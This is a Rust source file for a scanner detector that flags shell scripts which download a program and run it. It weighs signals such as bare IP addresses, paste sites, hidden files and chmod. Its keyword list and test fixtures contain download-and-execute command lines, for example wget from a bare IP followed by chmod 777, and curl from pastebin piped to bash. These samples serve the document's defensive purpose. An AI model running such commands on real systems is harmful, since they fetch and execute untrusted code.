//! Recognises scripts that fetch a program from somewhere odd and run it.
//!
//! `curl https://… | sh` is how much honest software installs itself, so fetching and running is a fact. It becomes a
//! proof by what installers do not do: a bare address, a paste site, a hidden place, wiped traces.
//!
//! - Sees: pipes, substitutions, and fetch, `chmod`, run over a few lines; also a base64 text decoded into a shell.
//! - Misses: addresses in variables, other languages' HTTP libraries, more than a dozen lines between fetch and run.
//! - False alarms: installers on throwaway hosts; manuals become facts.
//! - Source: ATT&CK T1105, T1059.004; `rules/intel/throwaway_hosts.txt`.

use model::{Category, Confidence, Maturity, Severity, Weight};

use super::{About, Detector, Match, Sample, Scope};
use crate::shell::{fetch, text};

/// Bytes of commands looked at behind a fetching one.
const WINDOW_BYTES: usize = 1200;
/// Most fetching commands looked at in one file.
const COMMANDS_MAX: usize = 256;
/// Most matches reported of one file.
const MATCHES_MAX: usize = 8;

pub(super) const DETECTOR: Detector = Detector {
    about: About {
        id: "download-and-run",
        title: "Fetches a program and runs it",
        category: Category::Backdoor,
        weight: Weight::Proof,
        severity: Severity::High,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &["T1105", "T1059.004"],
    },
    scope: Scope::Content {
        kinds: text::TEXT_KINDS,
        literals: &[
            "curl ",
            "wget ",
            "aria2c ",
            "tftp ",
            "ftpget ",
            "lwp-download",
            "urlopen(",
            "exec(requests.get",
            "base64 -d",
            "base64 --decode",
            "base64 -D",
            "lynx ",
            "fetch http",
        ],
    },
    inspect,
};

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    let mut found: Vec<(Weight, Match)> = Vec::new();
    let mut looked_until = 0;
    for hit in sample.hits.iter().take(COMMANDS_MAX) {
        if hit.offset < looked_until {
            continue;
        }
        let (line_start, line) = sample.line(hit.offset, 2048);
        looked_until = line_start.saturating_add(line.len());
        let (_, piece) = sample.around(line_start, 0, (hit.offset - line_start).saturating_add(WINDOW_BYTES));
        let (_, before) = sample.around(line_start, 200, 0);
        let before = String::from_utf8_lossy(before);
        let Some(run) = fetch::runs_after(&before, &String::from_utf8_lossy(piece)) else { continue };
        let weight = match (run.strong.len(), run.weak.len()) {
            _ if text::is_document(sample, hit.offset) => Weight::Fact,
            (2.., _) | (1, 1..) => Weight::Proof,
            (1, 0) | (0, 3..) => Weight::Sign,
            _ => Weight::Fact,
        };
        let reasons = run.reasons();
        let mut one = Match::new(format!("{} {reasons}", run.source).trim(), line_start);
        one.indicators = run.indicator().into_iter().collect();
        if weight != DETECTOR.about.weight {
            one.weight = Some(weight);
            one.severity = Some(if weight == Weight::Fact { Severity::Info } else { Severity::Medium });
        }
        if found.iter().all(|(_, known)| known.summary != one.summary) {
            found.push((weight, one));
        }
    }
    found.sort_by(|(a, _), (b, _)| b.cmp(a));
    found.truncate(MATCHES_MAX);
    found.into_iter().map(|(_, one)| one).collect()
}

#[cfg(test)]
mod tests {
    use model::Weight;

    use super::DETECTOR;
    use crate::detectors::testing::run;

    #[track_caller]
    fn check(text: &str, weights: &[Weight]) {
        let found = run(&DETECTOR, "x", 0o755, text.as_bytes());
        let found: Vec<_> = found.iter().map(|found| found.weight.unwrap_or(Weight::Proof)).collect();
        assert_eq!(found, weights, "{text}");
    }

    #[test]
    fn two_things_that_installers_do_not_do_are_a_proof() {
        check("#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/x; chmod 777 x; ./x\n", &[Weight::Proof]);
        check("#!/bin/sh\ncurl -s http://198.51.100.7/x -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k\n", &[Weight::Proof]);
        check("#!/bin/sh\ncurl -sk https://pastebin.com/raw/aaaa | bash\n", &[Weight::Proof]);
    }

    #[test]
    fn one_is_a_sign_and_an_installer_a_fact() {
        check("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n", &[Weight::Sign]);
        check("#!/bin/sh\ncurl -sSf https://sh.rustup.rs | sh\n", &[Weight::Fact]);
        check("RUN curl -o /tmp/i.sh https://get.docker.com && chmod +x /tmp/i.sh && /tmp/i.sh\n", &[Weight::Fact]);
        check("#!/bin/sh\n# curl -sk http://198.51.100.7/x | sh\n", &[Weight::Fact]);
        check("#!/bin/sh\ncurl -s https://deb.debian.org/x -o x\n", &[]);
    }
}
